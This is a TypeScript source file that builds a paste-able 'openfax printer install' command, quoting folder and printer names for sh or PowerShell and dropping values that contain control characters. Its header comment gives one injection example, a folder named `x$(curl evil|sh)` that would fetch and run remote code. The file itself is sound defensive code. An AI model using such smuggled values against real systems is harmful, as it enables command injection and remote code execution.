// The command the printer panel offers to paste into a terminal when a step needs rights the
// app does not have. A person pastes it, on Linux with sudo, so the folder name in it is quoted
// for the shell it is pasted into: a folder named `x$(curl evil|sh)` or `O’Brien` must arrive as
// text. Double quotes would not do (sh and PowerShell both expand `$(…)` inside them, and
// PowerShell also ends a quoted string at ‘ ’ ‚ ‛).

import { shQuote } from './macos.ts';
import { DEFAULT_PRINTER_NAME } from './plan.ts';

/** PowerShell single-quoted literal: every character PowerShell takes as a single quote is doubled. */
export function psQuote(value: string): string {
  return `'${value.replace(/['‘’‚‛]/g, (q) => q + q)}'`;
}

/**
 * `openfax printer install …` for this platform's shell (PowerShell on Windows, sh elsewhere).
 * A value with a control character is left out (a pasted line break runs what follows it); the
 * set-up itself refuses such a folder with its own words.
 */
export function pasteCommand(platform: NodeJS.Platform, folder: string, name: string): string {
  const quote = platform === 'win32' ? psQuote : shQuote;
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is refused
  const plain = (v: string) => !/[\u0000-\u001f\u007f]/.test(v);
  const folderArg = plain(folder) ? ` --folder ${quote(folder)}` : '';
  const named = name === DEFAULT_PRINTER_NAME || !plain(name) ? '' : ` --name ${quote(name)}`;
  const cli = `openfax printer install${folderArg}${named}`;
  return platform === 'linux' ? `sudo ${cli}` : cli;
}
